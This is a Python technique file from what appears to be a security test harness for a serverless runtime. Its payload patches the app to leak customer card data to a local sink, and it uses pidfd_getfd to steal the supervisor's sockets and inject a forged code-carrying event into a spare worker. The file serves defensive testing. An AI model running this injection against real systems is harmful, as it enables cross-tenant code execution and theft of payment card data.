"""Copies the supervisor's sockets (pidfd_getfd) and sends its own event to the spare worker."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.payloads import FAMILY
from dayfly.lab.gauntlet.technique import Technique

PLANT = (
    FAMILY
    + r"""
import ctypes, json
patch = '''
import app
real = app.receipt
app.receipt = lambda card: (leak(card), real(card))[1]
frame = sys._getframe()
while frame and "lambda_runtime_client" not in frame.f_locals:
    frame = frame.f_back
client = frame.f_locals["lambda_runtime_client"]
if hasattr(client, "_answer"):
    answer = client._answer
    client._answer = lambda *_: setattr(client, "_answer", answer)
'''
head = "import socket, sys\ndef leak(data): socket.socket(2, 2).sendto(str(data).encode(), ('127.0.0.1', %d))\n" % event["sink"]
frame = sys._getframe()
while "lambda_runtime_client" not in frame.f_locals:
    frame = frame.f_back
if not hasattr(frame.f_locals["lambda_runtime_client"], "_answer"):
    # The only process there is.
    exec(head + patch)
else:
    from dayfly.core.frames import pack_event
    body = json.dumps({"code": head + patch}).encode()
    headers = {
        "lambda-runtime-aws-request-id": "x",
        "lambda-runtime-deadline-ms": "9999999999999",
        "lambda-runtime-invoked-function-arn": "x",
        "content-type": "application/json",
    }
    def parent(pid):
        return int(open("/proc/%d/stat" % pid).read().rpartition(")")[2].split()[1])
    def sockets(pid):
        links = {number: os.readlink("/proc/%d/fd/%s" % (pid, number)) for number in os.listdir("/proc/%d/fd" % pid)}
        return {int(number): int(link[8:-1]) for number, link in links.items() if link.startswith("socket:[")}
    zygote = os.getppid()
    supervisor = parent(zygote)
    end = time.time() + 1
    waiting = set()
    while not waiting and time.time() < end:
        waiting = {inode for pid in others() if parent(pid) == zygote for inode in sockets(pid).values()}
    handle = os.pidfd_open(supervisor)
    for number, inode in sockets(supervisor).items():
        # The two ends of a pair are made one after the other.
        if {inode - 1, inode + 1} & waiting:
            copy = ctypes.CDLL(None).syscall(438, handle, number, 0)
            socket.socket(fileno=copy).sendall(pack_event(bytes(16), headers, body))
    time.sleep(0.2)
"""
)

TECHNIQUE = Technique(
    level="L3",
    attack=("T1055", "T1574"),
    family="D1",
    must_fail_to="copy a later customer's card",
    plant=PLANT,
    evidence=Cards(),
    spoils=True,
    undefended={"DAYFLY_CLOSE_MEMORY": "off"},
    process="may reach",
)
